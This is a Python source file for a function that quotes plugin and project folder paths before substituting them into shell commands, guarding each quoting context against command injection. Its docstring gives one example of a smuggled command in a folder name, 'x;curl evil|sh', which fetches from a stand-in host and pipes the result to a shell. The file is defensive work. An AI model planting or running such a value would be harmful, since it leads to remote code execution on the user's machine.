"""Put paths into a shell command as data: `${NAME}` replaced by its value quoted for where it stands.

A plugin's hook command names its files through `${CLAUDE_PLUGIN_ROOT}`, and a command's `!` lines
may name `${CLAUDE_PROJECT_DIR}` or `${CLAUDE_SKILL_DIR}`. Those folders can hold any character (a
project cloned as `x;curl evil|sh`, a space), so the value is never pasted in raw: outside quotes it is
`shlex.quote`d, inside double quotes `\\ " $ `` ` are escaped, inside single quotes a `'` becomes
`'\\''`. A plain path comes out unchanged; an odd one stays one word and never runs.
"""

from __future__ import annotations

import re
import shlex

_NAME = re.compile(r"\$\{(\w+)\}")


def _quoted(value: str, state: str) -> str:
    if state == "'":
        return value.replace("'", "'\\''")
    if state == '"':
        return re.sub(r'([\\"$`])', r"\\\1", value)
    if state == "`":  # the shell takes one backslash off before \\, ` and $ when it reads a `…`
        return re.sub(r"([\\$`])", r"\\\1", shlex.quote(value))
    return shlex.quote(value)


def substitute_quoted(command: str, values: dict[str, str]) -> str:
    """`command` with each `${NAME}` of `values` replaced by its value, quoted for the shell where it stands.

    Where it stands is read as the shell reads it: outside quotes, in `'…'`, in `"…"`, and in a `$(…)` or a
    `` `…` `` (each starts unquoted again, also inside double quotes).
    """
    out: list[str] = []
    #: the contexts open here: "" (top level), "'", '"', "$(" or "`"; and each `$(`'s open parentheses
    kinds, depths = [""], [0]

    def enter(kind: str) -> None:
        kinds.append(kind)
        depths.append(0)

    def leave() -> None:
        kinds.pop()
        depths.pop()

    i = 0
    while i < len(command):
        state, char = kinds[-1], command[i]
        match = _NAME.match(command, i) if char == "$" else None
        if match and match.group(1) in values:
            out.append(_quoted(values[match.group(1)], state))
            i = match.end()
            continue
        step = 1
        if state == "'":
            if char == "'":
                leave()
        elif char == "\\" and i + 1 < len(command):
            step = 2
        elif command.startswith("$(", i):
            enter("$(")
            step = 2
        elif (char == "`" and state == "`") or (char == '"' and state == '"'):
            leave()
        elif char == "`" or (char in "'\"" and state != '"'):
            enter(char)
        elif state == "$(" and char in "()":
            depths[-1] += 1 if char == "(" else -1
            if depths[-1] < 0:
                leave()
        out.append(command[i : i + step])
        i += step
    return "".join(out)
